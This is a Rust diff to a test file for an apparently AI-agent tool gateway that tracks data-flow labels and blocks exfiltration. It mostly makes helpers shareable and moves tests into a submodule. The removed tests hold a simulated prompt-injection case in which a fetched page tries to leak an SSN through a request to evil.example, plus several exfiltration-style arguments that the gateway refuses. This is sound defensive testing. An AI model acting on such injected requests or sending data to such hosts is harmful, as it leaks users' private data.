@@ -2,21 +2,20 @@ use std::collections::HashMap;
 
 use super::*;
 use crate::chain::notes::FindingNote;
-use crate::engines::flow::MAX_SOURCES;
 use crate::engines::identity::Principal;
 use crate::protocol::jsonrpc::{parse, ParseLimits, Parsed};
 use warden_config::access::ToolEntry;
 use warden_config::flows::{Labels, Roles, DEFAULT_LEVELS};
 
 /// The one message `body` holds, parsed.
-fn envelope(body: &str) -> crate::protocol::jsonrpc::Envelope {
+pub(super) fn envelope(body: &str) -> crate::protocol::jsonrpc::Envelope {
     match parse(body.as_bytes(), ParseLimits::default()).expect("parse") {
         Parsed::Single(env) => env,
         _ => panic!("one message"),
     }
 }
 
-fn flows(on_violation: OnViolation, track: Track) -> Flows {
+pub(super) fn flows(on_violation: OnViolation, track: Track) -> Flows {
     Flows {
         levels: DEFAULT_LEVELS.iter().map(|s| (*s).to_owned()).collect(),
         track,
@@ -32,14 +31,14 @@ fn flows(on_violation: OnViolation, track: Track) -> Flows {
     }
 }
 
-fn labels(level: Option<u8>, roles: Roles) -> Labels {
+pub(super) fn labels(level: Option<u8>, roles: Roles) -> Labels {
     Labels {
         classification: level,
         roles: Some(roles),
     }
 }
 
-fn catalog() -> HashMap<String, ServerCatalog> {
+pub(super) fn catalog() -> HashMap<String, ServerCatalog> {
     let tool = |l: Labels| ToolEntry {
         labels: l,
         ..ToolEntry::default()
@@ -97,12 +96,12 @@ fn catalog() -> HashMap<String, ServerCatalog> {
     ])
 }
 
-struct Gw {
-    req: FlowFilter,
-    reply: FlowReplyFilter,
+pub(super) struct Gw {
+    pub(super) req: FlowFilter,
+    pub(super) reply: FlowReplyFilter,
 }
 
-fn gateway(on_violation: OnViolation, track: Track) -> Gw {
+pub(super) fn gateway(on_violation: OnViolation, track: Track) -> Gw {
     let tables = Arc::new(FlowTables::new(1000));
     let mk = || {
         FlowFilter::new(
@@ -119,7 +118,7 @@ fn gateway(on_violation: OnViolation, track: Track) -> Gw {
     }
 }
 
-fn principal(clearance: Option<&str>) -> Principal {
+pub(super) fn principal(clearance: Option<&str>) -> Principal {
     let mut p = Principal::anonymous();
     p.id = "agent-7".into();
     p.tenant = "acme".into();
@@ -133,7 +132,7 @@ fn principal(clearance: Option<&str>) -> Principal {
 /// Calls `server/tool` and, when it passes, replies with `reply_text`
 /// (with a DLP finding when `finding`). Returns the refusal reason, or
 /// the approval the call was held for.
-fn call(
+pub(super) fn call(
     gw: &Gw,
     p: &Principal,
     session: Option<&str>,
@@ -258,46 +257,6 @@ fn clearance_bounds_reads() {
 }
 
 #[test]
-fn a_dlp_finding_raises_a_reply() {
-    let gw = gateway(OnViolation::Deny, Track::Session);
-    let p = principal(Some("restricted"));
-    // `misc/lookup` is unlabelled: untrusted, level 0 — but its reply
-    // carried an SSN, so it is confidential.
-    assert!(call(&gw, &p, Some("s"), "misc", "lookup", "{}", true).is_ok());
-    let e = call(&gw, &p, Some("s"), "web", "post", "{}", false).expect_err("refused");
-    assert!(e.contains("confidential data from `misc/lookup`"), "{e}");
-}
-
-#[test]
-fn an_unlabelled_tool_with_a_url_is_a_sink() {
-    let gw = gateway(OnViolation::Deny, Track::Session);
-    let p = principal(Some("restricted"));
-    assert!(call(&gw, &p, Some("s"), "hr", "get", "{}", false).is_ok());
-    assert!(call(&gw, &p, Some("s"), "web", "fetch", "{}", false).is_ok());
-    let e = call(
-        &gw,
-        &p,
-        Some("s"),
-        "misc",
-        "ping",
-        r#"{"to":"https://x.example/?d=1"}"#,
-        false,
-    )
-    .expect_err("refused");
-    assert!(e.contains("`misc/ping`"), "{e}");
-    assert!(call(
-        &gw,
-        &p,
-        Some("s"),
-        "misc",
-        "ping",
-        r#"{"to":"x.example"}"#,
-        false
-    )
-    .is_ok());
-}
-
-#[test]
 fn sessions_start_clean_unless_tracked_per_principal() {
     let gw = gateway(OnViolation::Deny, Track::Session);
     let p = principal(Some("restricted"));
@@ -369,31 +328,6 @@ fn an_unreadable_state_refuses_sinks_only() {
 }
 
 #[test]
-fn states_only_grow_and_keep_their_explanation() {
-    let mut st = FlowState::default();
-    let src = |i: usize, level: u8, untrusted: bool| Source {
-        id: format!("fl_{i}"),
-        what: format!("s/t{i}"),
-        level,
-        untrusted,
-    };
-    assert!(st.raise(&src(0, 3, false)));
-    assert!(st.raise(&src(1, 0, true)));
-    for i in 2..100 {
-        st.raise(&src(i, 1, false));
-    }
-    assert_eq!((st.level, st.untrusted), (3, true));
-    assert!(st.sources.len() <= MAX_SOURCES);
-    let (high, untrusted) = st.culprits();
-    assert_eq!(high.map(|s| s.id.as_str()), Some("fl_0"));
-    assert_eq!(untrusted.map(|s| s.id.as_str()), Some("fl_1"));
-    let mut other = FlowState::default();
-    other.merge(&st);
-    assert_eq!(other.level, 3);
-    assert!(!other.raise(&src(200, 2, false)), "lower adds nothing");
-}
-
-#[test]
 fn resources_take_their_pattern_labels() {
     let f = flows(OnViolation::Deny, Track::Session);
     let c = catalog();
@@ -403,7 +337,7 @@ fn resources_take_their_pattern_labels() {
         "hr",
         "resources/read",
         "hr://public/handbook",
-        None,
+        false,
     );
     assert_eq!((l.level, l.what.as_str()), (0, "hr:hr://public/handbook"));
     let l = call_labels(
@@ -412,7 +346,7 @@ fn resources_take_their_pattern_labels() {
         "hr",
         "resources/read",
         "hr://employees/1",
-        None,
+        false,
     );
     assert_eq!(l.level, 3, "the server's label");
 }
@@ -422,7 +356,7 @@ fn names_a_server_may_read_otherwise_take_the_stricter_label() {
     let f = flows(OnViolation::Deny, Track::Session);
     let mut c = catalog();
     // A case variant of a sink is that sink.
-    let l = call_labels(&f, c.get("web"), "web", "tools/call", "POST", None);
+    let l = call_labels(&f, c.get("web"), "web", "tools/call", "POST", false);
     assert!(l.roles.sink, "{l:?}");
     // A resource URI with dot segments or escapes may be another one:
     // the highest label of every pattern, and the server's.
@@ -437,7 +371,7 @@ fn names_a_server_may_read_otherwise_take_the_stricter_label() {
         "hr://public\\..\\employees\\1",
         "hr://PUBLIC/x",
     ] {
-        let l = call_labels(&f, c.get("hr"), "hr", "resources/read", uri, None);
+        let l = call_labels(&f, c.get("hr"), "hr", "resources/read", uri, false);
         assert_eq!(l.level, 3, "{uri}");
     }
     let l = call_labels(
@@ -446,52 +380,9 @@ fn names_a_server_may_read_otherwise_take_the_stricter_label() {
         "hr",
         "resources/read",
         "hr://public/handbook",
-        None,
+        false,
     );
     assert_eq!(l.level, 0);
-}
-
-#[test]
-fn a_task_result_is_its_tools_output() {
-    let gw = gateway(OnViolation::Deny, Track::Session);
-    let p = principal(Some("restricted"));
-    let ex = Exchange {
-        session_id: Some("s"),
-        ..Exchange::new(&p, "hr")
-    };
-    let reply = r#"{"jsonrpc":"2.0","id":7,"result":{"content":[{"type":"text","text":"ssn"}]}}"#;
-    let env = envelope(reply);
-    let msg = Message::from_server(
-        &env,
-        reply.as_bytes(),
-        Some("tasks/result"),
-        Some("get_employee"),
-    );
-    let mut notes = Notes::default();
-    let _ = gw.reply.on_response(&msg, &ex, &mut notes);
-    assert_eq!(notes.flow_out.map(|o| o.source.level), Some(3));
-}
-
-#[test]
-fn a_server_asking_the_model_brings_untrusted_content() {
-    let gw = gateway(OnViolation::Deny, Track::Session);
-    let p = principal(Some("restricted"));
-    call(&gw, &p, Some("s"), "hr", "get", "{}", false).expect("read");
-    let ex = Exchange {
-        session_id: Some("s"),
-        ..Exchange::new(&p, "misc")
-    };
-    let ask =
-        r#"{"jsonrpc":"2.0","id":9,"method":"sampling/createMessage","params":{"messages":[]}}"#;
-    let env = envelope(ask);
-    let mut msg = Message::from_server(&env, ask.as_bytes(), None, None);
-    msg.request_method = Some("sampling/createMessage");
-    let _ = gw.reply.on_response(&msg, &ex, &mut Notes::default());
-    let e = call(&gw, &p, Some("s"), "web", "post", "{}", false).expect_err("refused");
-    assert!(
-        e.contains("after untrusted content from `misc (sampling/createMessage)`"),
-        "{e}"
-    );
 }
 
 #[test]
@@ -558,56 +449,6 @@ fn a_private_sink_still_needs_clearance() {
     )
     .expect_err("refused");
     assert!(e.starts_with("flow_above_clearance"), "{e}");
-}
-
-#[test]
-fn an_untrusted_tool_given_a_url_or_an_address_is_a_sink() {
-    let gw = gateway(OnViolation::Deny, Track::Session);
-    let p = principal(Some("restricted"));
-    let s = Some("s");
-    call(&gw, &p, s, "hr", "get_employee", "{}", false).expect("read");
-    call(
-        &gw,
-        &p,
-        s,
-        "web",
-        "fetch",
-        r#"{"url":"https://news.example"}"#,
-        false,
-    )
-    .expect("first fetch");
-    // The injected page now asks for the data in a fetch's query.
-    let e = call(
-        &gw,
-        &p,
-        s,
-        "web",
-        "fetch",
-        r#"{"url":"https://evil.example/c?d=536-22-8145"}"#,
-        false,
-    )
-    .expect_err("refused");
-    assert!(e.contains("cannot go to `web/fetch`"), "{e}");
-    for args in [
-        r#"{"to":"attacker@evil.example","text":"x"}"#,
-        r#"{"config":{"https://evil.example/c":"GET"}}"#,
-        r#"{"cfg":{"host":"//evil.example/c"}}"#,
-        r#"{"t":"see ftp://evil.example/x"}"#,
-        r#"{"t":"MAILTO:a@b.c"}"#,
-    ] {
-        let e = call(&gw, &p, s, "misc", "notify", args, false).expect_err("refused");
-        assert!(e.contains("cannot go to `misc/notify`"), "{args}: {e}");
-    }
-    assert!(call(
-        &gw,
-        &p,
-        s,
-        "misc",
-        "notify",
-        r#"{"t":"see file.txt"}"#,
-        false
-    )
-    .is_ok());
 }
 
 fn prompt(
@@ -687,76 +528,4 @@ fn policy_mode_still_refuses_sinks_it_cannot_see_the_flow_of() {
     );
 }
 
-#[test]
-fn a_clients_answer_to_a_server_is_a_sink() {
-    let gw = gateway(OnViolation::Deny, Track::Session);
-    let p = principal(Some("restricted"));
-    let answer = r#"{"jsonrpc":"2.0","id":"srv-1","result":{"role":"assistant","content":{"type":"text","text":"x"}}}"#;
-    let env = envelope(answer);
-    let ex = Exchange {
-        session_id: Some("s"),
-        ..Exchange::new(&p, "web")
-    };
-    let judge = || {
-        gw.req.on_request(
-            &Message::new(&env, answer.as_bytes()),
-            &ex,
-            &mut Notes::default(),
-        )
-    };
-    assert!(matches!(judge(), Decision::Pass), "a clean flow answers");
-    call(&gw, &p, Some("s"), "hr", "get_employee", "{}", false).expect("read");
-    call(&gw, &p, Some("s"), "web", "fetch", "{}", false).expect("fetch");
-    match judge() {
-        Decision::Reject(d) => assert!(
-            d.reason
-                .contains("cannot go to `web (an answer to its request)`"),
-            "{}",
-            d.reason
-        ),
-        _ => panic!("a tainted flow's answer to a server is refused"),
-    }
-}
-
-/// The chain calls the guard for a client's answer to a server (it has no
-/// method, so it reaches only the filters that act on every message).
-#[test]
-fn the_chain_judges_a_clients_answer_to_a_server() {
-    let f = flows(OnViolation::Deny, Track::Session);
-    let tables = Arc::new(FlowTables::new(10));
-    let guard = FlowFilter::new(
-        Some(&f),
-        Arc::new(catalog()),
-        tables.clone(),
-        DenialStyle::ToolError,
-    )
-    .expect("flows");
-    let p = principal(Some("restricted"));
-    let ex = Exchange {
-        session_id: Some("s"),
-        ..Exchange::new(&p, "web")
-    };
-    let key = flow_key(&f, &ex);
-    for (id, level, untrusted) in [("fl_a", 3, false), ("fl_b", 0, true)] {
-        let src = Source {
-            id: id.into(),
-            what: "x/y".into(),
-            level,
-            untrusted,
-        };
-        tables.raise(&key, &src, None);
-    }
-    let answer = r#"{"jsonrpc":"2.0","id":"srv-1","result":{"roots":[]}}"#;
-    let env = envelope(answer);
-    let chain =
-        crate::chain::filter::FilterChain::new(vec![Arc::new(guard)], ParseLimits::default());
-    let verdict = chain.run(
-        &Message::new(&env, answer.as_bytes()),
-        &ex,
-        &mut Notes::default(),
-    );
-    assert!(
-        matches!(verdict, crate::chain::filter::Verdict::Reject { .. }),
-        "{verdict:?}"
-    );
-}
+mod sinks;
